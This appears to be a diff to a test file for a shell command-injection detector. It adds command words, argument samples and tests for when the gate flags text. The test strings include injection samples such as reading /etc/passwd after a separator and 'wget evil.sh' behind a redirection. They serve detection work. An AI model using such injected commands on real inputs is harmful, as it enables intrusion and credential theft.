@@ -37,6 +37,25 @@ const COMMANDS = [
   'type',
   'kill',
   'tar',
+  // weak words the gate weighs by their arguments after a separator, and ones it does not
+  'read',
+  'date',
+  'time',
+  'last',
+  'head',
+  'sort',
+  'host',
+  'dig',
+  'mail',
+  'which',
+  'source',
+  'make',
+  'wait',
+  'who',
+  'w',
+  'then',
+  'nice',
+  'xargs',
 ]
 const ARGS = [
   'me',
@@ -71,15 +90,28 @@ const ARGS = [
   'a=b',
   'u@h',
   'x:y',
+  '2:30',
+  "doesn't",
+  "I'll",
+  '"a b"',
+  "'/tmp/x'",
+  '#tag',
+  '&>/dev/null',
+  '0x1f',
+  'a.b.c',
+  '!id',
+  '{a,b}',
+  'ok.',
+  'done)',
 ]
 /**
  * Blanks, the hard separators and redirections. After `(`, `{`, a backtick or `: ` the gate is
  * narrower than the judge on purpose: a command word there counts only before an argument that
  * looks like shell (`(find it later)` is prose; scan-words.ts idleCommand reads it the same way),
  * and a leading command before `(` is no command line (`ls (see #12)`). A value that starts with a
- * redirection (after assignments, if any) is read as text: `<nick> has /usr/bin/emacs …` is a chat log.
+ * redirection (after assignments and empty expansions, if any) is read as text: `<nick> has /usr/bin/emacs …` is a chat log.
  */
-const STARTS_REDIRECTED = /^\s*(?:[a-z_][a-z0-9_]*=[^\s<>;|&`()]*\s*)*\d*[<>]/
+const STARTS_REDIRECTED = /^\s*(?:\$[a-z]\s*|[a-z_][a-z0-9_]*=[^\s<>;|&`()]*\s*)*\d*&?[<>]/
 const SEPARATORS = [
   ' ',
   ' ',
@@ -133,6 +165,60 @@ describe('command injection: the gate', () => {
     // (the generator reaches findings, and texts without one)
     expect(found).toBeGreaterThan(5000)
     expect(found).toBeLessThan(38000)
+  })
+})
+
+describe('command injection: the gate after a separator', () => {
+  // A weak command word (an English word) after a separator counts for the judge only with
+  // shell-shaped arguments, or with none when it may stand alone: the gate weighs them the same way.
+  it('lets a weak command word through only with arguments the judge could weigh', () => {
+    const d = createDetector()
+    for (const s of [
+      "reminder: ping me if 2:30 doesn't work & I'll find another slot #scheduling",
+      'install it & read the guide #python',
+      'fixed; sort of. | head of the team',
+      'see you; last time it worked; which one?',
+    ]) {
+      expect(mayHaveCommand(s.toLowerCase()), s).toBe(false)
+      expect(d.first(s), s).toBeNull()
+    }
+    for (const s of [
+      'x; ping 10.0.0.1',
+      'x; ping -c 3 example.com',
+      'x & read l </etc/passwd',
+      'x | head -n 5',
+      'x; sort /etc/passwd',
+      'x; date',
+      'x;date;',
+      'x; head "/etc/passwd"',
+      "x; find . -name '*.sh'",
+      'x; echo hi',
+      'x; read $x',
+      'x; wait &>/dev/null',
+      'x; source ./run.sh',
+      'alias ping=curl; ping x',
+      `x; \${IFS}ping me`,
+      'x; nice ping me',
+    ])
+      expect(mayHaveCommand(s.toLowerCase()), s).toBe(true)
+  })
+
+  it('steps over what stands before a command word as the tokenizer does', () => {
+    for (const s of [
+      '$x bash -c id', // an empty expansion first
+      'a | b=c $x wget x', // an assignment, then an empty expansion
+      "x && '/tmp/x'", // a quoted path run
+      "x; . '/tmp/x'", // a quoted path sourced
+      'dir !id', // a history expansion of a command
+      "chmod i'll see '/etc/passwd'", // a quote joins words up to its closing quote
+      'curl #x\nok', // a comment ends the command
+      'x; > "a b" wget evil.sh', // a quoted redirection target is one word
+    ]) {
+      expect(mayHaveCommand(s), s).toBe(true)
+      const h = commandPositions(tokenizeShell(s), s, 1, s.includes('\n'))
+      releaseTokens()
+      expect(h, s).not.toBeNull()
+    }
   })
 })
 
